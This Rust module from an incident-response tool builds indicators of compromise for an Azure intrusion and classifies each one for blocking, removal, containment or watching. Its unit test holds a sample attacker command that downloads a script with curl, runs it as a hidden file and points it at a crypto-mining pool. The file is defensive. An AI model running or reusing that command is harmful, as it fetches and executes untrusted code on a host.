//! Indicators of compromise: every attacker address, identity, user agent and resource the
//! attacker created or targeted, with when it was first and last seen, the role it played and
//! the steps and records that show it. Built from the steps, the scope, the compromised
//! identities' sign-ins and the alerts; nothing here reads files.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use serde::Serialize;

use super::scope::Scope;
use super::steps::{Outcome, Phase, Step};
use crate::bundle::alerts::Alert;
use crate::bundle::signins::SignIn;
use crate::error::Location;
use crate::types::{StepKind, Timestamp};

/// The closed set of indicator kinds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum IocKind {
    IpAddress,
    Account,
    UserAgent,
    Resource,
    Url,
    /// A `host:port` the attacker's own command connects to (the host may be a placeholder).
    Endpoint,
    /// A destination port the attacker's command or firewall rule opens outbound.
    Port,
    Hash,
}

impl IocKind {
    pub fn label(self) -> &'static str {
        match self {
            IocKind::IpAddress => "IP address",
            IocKind::Account => "Account",
            IocKind::UserAgent => "User agent",
            IocKind::Resource => "Azure resource",
            IocKind::Url => "URL",
            IocKind::Endpoint => "Network endpoint",
            IocKind::Port => "Port",
            IocKind::Hash => "Hash",
        }
    }
}

/// What a SOC should do with an indicator: only the attacker's own things go on a block list;
/// the organisation's identities and resources are contained or watched, never blocked.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum IocUse {
    /// The attacker's address, URL or endpoint: block and hunt for it.
    Block,
    /// A resource the attacker created: remove it (after preserving evidence).
    Remove,
    /// The organisation's own identity the attacker used: contain it, do not block it.
    Contain,
    /// Hunt for it, but do not block: a user agent, a port, a placeholder host, or the
    /// organisation's own resource.
    Watch,
}

impl IocUse {
    pub fn label(self) -> &'static str {
        match self {
            IocUse::Block => "block",
            IocUse::Remove => "remove (attacker-created)",
            IocUse::Contain => "contain (the organisation's own; do not block)",
            IocUse::Watch => "watch (do not block)",
        }
    }
}

/// One indicator.
#[derive(Debug, Clone, Serialize)]
pub struct Ioc {
    pub kind: IocKind,
    pub kind_label: &'static str,
    pub value: String,
    pub use_as: IocUse,
    pub use_label: &'static str,
    /// What it did in this incident ("attacker sign-in address; management-plane caller").
    pub role: String,
    pub first_seen: Option<Timestamp>,
    pub last_seen: Option<Timestamp>,
    /// Steps (S…) that show it.
    pub steps: Vec<String>,
    /// Up to three records that show it.
    pub evidence: Vec<Location>,
}

#[derive(Default)]
struct Acc {
    /// The attacker created it (a resource of a succeeded create step).
    created: bool,
    roles: BTreeSet<String>,
    first: Option<Timestamp>,
    last: Option<Timestamp>,
    steps: BTreeSet<String>,
    evidence: Vec<Location>,
}

impl Acc {
    fn see(&mut self, from: Timestamp, to: Timestamp, role: &str, step: Option<&str>, ev: &[Location]) {
        self.first = Some(self.first.map_or(from, |f| f.min(from)));
        self.last = Some(self.last.map_or(to, |l| l.max(to)));
        self.roles.insert(role.to_string());
        if let Some(s) = step {
            self.steps.insert(s.to_string());
        }
        for e in ev {
            if self.evidence.len() < 3 && !self.evidence.contains(e) {
                self.evidence.push(e.clone());
            }
        }
    }
}

type Table = BTreeMap<(IocKind, String), Acc>;

fn ip_role(step: &Step) -> &'static str {
    match (step.phase, step.outcome) {
        (Phase::Identity, Outcome::Succeeded) => "attacker sign-in address",
        (Phase::Identity, _) => "failed sign-in attempt address",
        (Phase::Arm, _) => "management-plane (ARM) caller address",
        (Phase::Storage, _) => "storage data-plane client address",
        (Phase::Alert, _) => "address named in an alert",
    }
}

/// The resource's role, worded by the outcome: a failed attempt is never said to have
/// happened ("the attacker tried to create it: refused by policy (…)").
fn resource_role(step: &Step) -> String {
    let (done, tried) = match step.kind {
        StepKind::VmCreate | StepKind::PublicIpCreate => ("created by the attacker", "the attacker tried to create it"),
        StepKind::RoleAssignment => ("role assignment made by the attacker", "the attacker tried to assign a role"),
        StepKind::StorageKeyListing => ("keys listed by the attacker", "the attacker tried to list its keys"),
        StepKind::NsgRuleChange => (
            "firewall rule changed by the attacker",
            "the attacker tried to change a firewall rule",
        ),
        StepKind::LoggingTamper => ("logging changed by the attacker", "the attacker tried to change logging"),
        _ => ("changed by the attacker", "the attacker tried to change it"),
    };
    match step.outcome {
        Outcome::Succeeded => done.to_string(),
        Outcome::Failed => format!("{tried}: {}", step.outcome_text),
        Outcome::Unknown => format!("{done} (no final status)"),
    }
}

fn from_steps(t: &mut Table, steps: &[Step], scope: &Scope) {
    for s in steps.iter().filter(|s| s.kind != StepKind::LateralMovement) {
        let end = s.end.unwrap_or(s.at);
        // A management-plane operation's events may come from several addresses: each
        // attacker address is seen at its own events' times.
        let from_attacker: Vec<_> = s.seen_from.iter().filter(|f| scope.has_ip(&f.ip)).collect();
        if !from_attacker.is_empty() {
            for f in from_attacker {
                t.entry((IocKind::IpAddress, f.ip.to_string()))
                    .or_default()
                    .see(f.first, f.last, ip_role(s), Some(&s.id), &s.evidence);
            }
        } else if let Some(ip) = s.ip {
            t.entry((IocKind::IpAddress, ip.to_string()))
                .or_default()
                .see(s.at, end, ip_role(s), Some(&s.id), &s.evidence);
        }
        if let Some(a) = &s.actor {
            t.entry((IocKind::Account, a.to_string())).or_default().see(
                s.at,
                end,
                "identity used by the attacker",
                Some(&s.id),
                &s.evidence,
            );
        }
        if let Some(r) = &s.resource {
            let e = t.entry((IocKind::Resource, r.to_string())).or_default();
            e.see(s.at, end, &resource_role(s), Some(&s.id), &s.evidence);
            e.created |= s.outcome == Outcome::Succeeded
                && matches!(
                    s.kind,
                    StepKind::VmCreate | StepKind::PublicIpCreate | StepKind::RoleAssignment | StepKind::NsgRuleChange
                );
        }
    }
}

/// What the attacker's own commands (a VM extension's `commandToExecute`) and outbound firewall
/// rules name: URLs it fetched from, endpoints and ports it connects to.
fn from_commands_and_rules(t: &mut Table, steps: &[Step]) {
    for s in steps.iter().filter(|s| s.kind != StepKind::LateralMovement) {
        let Some(d) = &s.details else { continue };
        let end = s.end.unwrap_or(s.at);
        let mut see = |kind: IocKind, value: String, role: &str| {
            t.entry((kind, value)).or_default().see(s.at, end, role, Some(&s.id), &s.evidence);
        };
        if let Some(cmd) = &d.command {
            let (urls, endpoints) = network_indicators(cmd);
            // The activity log shows the command handed to the VM, not that it ran.
            let sent = if s.outcome == Outcome::Failed {
                "the attacker tried to deploy to a VM"
            } else {
                "the attacker deployed to a VM"
            };
            for u in urls {
                see(IocKind::Url, u, &format!("URL in a command {sent}"));
            }
            for (endpoint, port) in endpoints {
                see(IocKind::Endpoint, endpoint, &format!("endpoint in a command {sent}"));
                see(IocKind::Port, port, &format!("port in a command {sent}"));
            }
        }
        if let Some(rule) = &d.rule {
            let outbound_allow = rule.direction.as_deref().is_some_and(|x| x.eq_ignore_ascii_case("outbound"))
                && rule.access.as_deref().is_some_and(|x| x.eq_ignore_ascii_case("allow"));
            if let Some(port) = rule.port.as_deref().filter(|p| outbound_allow && *p != "*") {
                let role = if s.outcome == Outcome::Failed {
                    "the attacker tried to open this port outbound"
                } else {
                    "port the attacker opened outbound in a firewall rule"
                };
                see(IocKind::Port, port.to_string(), role);
            }
        }
    }
}

/// URLs in a command line (found by linkify), and the `host:port` tokens outside them.
fn network_indicators(cmd: &str) -> (Vec<String>, Vec<(String, String)>) {
    static ENDPOINT: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        // A host (name, address or a `{{PLACEHOLDER}}`/`$VAR`) and a port, as a whole token.
        regex::Regex::new(r#"(?:^|[\s='"(@])((?:\{\{[A-Za-z0-9_]+\}\}|\$\{?[A-Za-z0-9_]+\}?|[A-Za-z0-9][A-Za-z0-9.-]*[A-Za-z0-9])):([0-9]{1,5})(?:$|[\s'");/])"#)
            .expect("the endpoint pattern is valid")
    });
    let mut finder = linkify::LinkFinder::new();
    finder.kinds(&[linkify::LinkKind::Url]);
    let mut outside = String::with_capacity(cmd.len());
    let mut urls = Vec::new();
    let mut last = 0;
    for link in finder.links(cmd) {
        outside.push_str(&cmd[last..link.start()]);
        outside.push(' ');
        urls.push(link.as_str().to_string());
        last = link.end();
    }
    outside.push_str(&cmd[last..]);
    let endpoints = ENDPOINT
        .captures_iter(&outside)
        .filter(|c| c[2].parse::<u16>().is_ok_and(|p| p > 0))
        // A bare number before the colon is a time or a ratio, not a host.
        .filter(|c| c[1].contains(|ch: char| ch == '.' || ch == '{' || ch == '$' || ch.is_ascii_alphabetic()))
        .map(|c| (format!("{}:{}", &c[1], &c[2]), c[2].to_string()))
        .collect();
    (urls, endpoints)
}

fn from_signins(t: &mut Table, signins: &[SignIn], scope: &Scope, steps: &[Step]) {
    // The first step each record proves, looked up, not scanned (a password spray brings
    // thousands of sign-ins and steps).
    let mut step_of: BTreeMap<&Location, &str> = BTreeMap::new();
    for st in steps {
        if let Some(e) = st.evidence.first() {
            step_of.entry(e).or_insert(st.id.as_str());
        }
    }
    for s in signins.iter().filter(|s| s.ip.is_some_and(|ip| scope.has_ip(&ip))) {
        let step = step_of.get(&s.origin).copied();
        if let Some(ua) = s.user_agent.as_deref().filter(|u| !u.trim().is_empty()) {
            t.entry((IocKind::UserAgent, ua.to_string())).or_default().see(
                s.at,
                s.at,
                "user agent of sign-ins from attacker addresses",
                step,
                std::slice::from_ref(&s.origin),
            );
        }
    }
}

fn from_alerts(t: &mut Table, alerts: &[Alert], scope: &Scope) {
    for a in alerts {
        let at = a.at;
        for ip in a.entities.ips.iter().filter(|ip| scope.has_ip(ip)) {
            t.entry((IocKind::IpAddress, ip.to_string())).or_default().see(
                at,
                at,
                "named in an alert",
                None,
                std::slice::from_ref(&a.origin),
            );
        }
        for url in network_indicators(a.description.as_deref().unwrap_or("")).0 {
            t.entry((IocKind::Url, url))
                .or_default()
                .see(at, at, "URL named in an alert", None, std::slice::from_ref(&a.origin));
        }
    }
}

/// Scoped addresses and identities that no step or alert placed on the table still belong on
/// it: their reasons are their role.
fn from_scope(t: &mut Table, scope: &Scope) {
    for ip in scope.ips_in_scope() {
        let e = t.entry((IocKind::IpAddress, ip.to_string())).or_default();
        if e.roles.is_empty() {
            e.roles.insert("in the attacker scope (see the scope reasons)".into());
        }
    }
    for f in &scope.footholds {
        t.entry((IocKind::Account, f.principal.to_string())).or_default().see(
            f.at,
            f.at,
            &format!("granted {} by the attacker; not seen acting in the evidence provided", f.role),
            None,
            std::slice::from_ref(&f.evidence),
        );
    }
    for u in scope.identities_in_scope() {
        t.entry((IocKind::Account, u.to_string()))
            .or_default()
            .roles
            .insert("compromised identity".into());
    }
}

/// A resource inside one the attacker created (an extension of its VM) is the attacker's too.
fn mark_children_of_created(t: &mut Table) {
    let created: Vec<String> = t
        .iter()
        .filter(|((k, _), acc)| *k == IocKind::Resource && acc.created)
        .map(|((_, v), _)| format!("{}/", v.to_ascii_lowercase()))
        .collect();
    for ((k, v), acc) in t.iter_mut() {
        if *k == IocKind::Resource && created.iter().any(|c| v.to_ascii_lowercase().starts_with(c.as_str())) {
            acc.created = true;
        }
    }
}

/// What to do with an indicator of this kind.
fn use_of(kind: IocKind, value: &str, created: bool) -> IocUse {
    match kind {
        IocKind::IpAddress | IocKind::Url | IocKind::Hash => IocUse::Block,
        IocKind::Endpoint if value.contains("{{") || value.contains('$') => IocUse::Watch,
        IocKind::Endpoint => IocUse::Block,
        IocKind::Account => IocUse::Contain,
        IocKind::Resource if created => IocUse::Remove,
        IocKind::Resource | IocKind::UserAgent | IocKind::Port => IocUse::Watch,
    }
}

/// Step ids in the order the steps are numbered, not as text sorts them ("S100" before "S11").
fn in_step_order(ids: BTreeSet<String>, position: &HashMap<&str, usize>) -> Vec<String> {
    let mut ids: Vec<String> = ids.into_iter().collect();
    ids.sort_by_key(|id| position.get(id.as_str()).copied().unwrap_or(usize::MAX));
    ids
}

/// All indicators, ordered by kind then first sighting.
pub fn build_iocs(steps: &[Step], scope: &Scope, signins: Option<&[SignIn]>, alerts: Option<&[Alert]>) -> Vec<Ioc> {
    let mut t = Table::new();
    from_steps(&mut t, steps, scope);
    from_commands_and_rules(&mut t, steps);
    if let Some(s) = signins {
        from_signins(&mut t, s, scope, steps);
    }
    if let Some(a) = alerts {
        from_alerts(&mut t, a, scope);
    }
    from_scope(&mut t, scope);
    mark_children_of_created(&mut t);
    let position: HashMap<&str, usize> = steps.iter().enumerate().map(|(i, s)| (s.id.as_str(), i)).collect();
    let mut out: Vec<Ioc> = t
        .into_iter()
        .map(|((kind, value), acc)| Ioc {
            use_as: use_of(kind, &value, acc.created),
            use_label: use_of(kind, &value, acc.created).label(),
            kind,
            kind_label: kind.label(),
            value,
            role: if acc.roles.is_empty() {
                "in the attacker scope".into()
            } else {
                acc.roles.into_iter().collect::<Vec<_>>().join("; ")
            },
            first_seen: acc.first,
            last_seen: acc.last,
            steps: in_step_order(acc.steps, &position),
            evidence: acc.evidence,
        })
        .collect();
    out.sort_by(|a, b| (a.kind, a.first_seen, &a.value).cmp(&(b.kind, b.first_seen, &b.value)));
    out
}

#[cfg(test)]
mod tests {
    use super::network_indicators;

    #[test]
    fn commands_give_their_urls_endpoints_and_ports() {
        let (urls, endpoints) = network_indicators(
            r#"bash -c "curl -fsSL http://203.0.113.9:8080/a.sh -o /tmp/.a && /tmp/.a -o {{POOL}}:3333 --url=pool.example.net:14444 -p x""#,
        );
        assert_eq!(urls, ["http://203.0.113.9:8080/a.sh"]);
        assert_eq!(
            endpoints,
            [
                ("{{POOL}}:3333".to_string(), "3333".to_string()),
                ("pool.example.net:14444".to_string(), "14444".to_string())
            ]
        );
        // Times, IPv6-like text and out-of-range ports are not endpoints.
        let (urls, endpoints) = network_indicators("sleep 10; date +%H:%M; echo 12:30 host:99999 fe80::1");
        assert!(urls.is_empty());
        assert!(endpoints.is_empty(), "{endpoints:?}");
    }
}
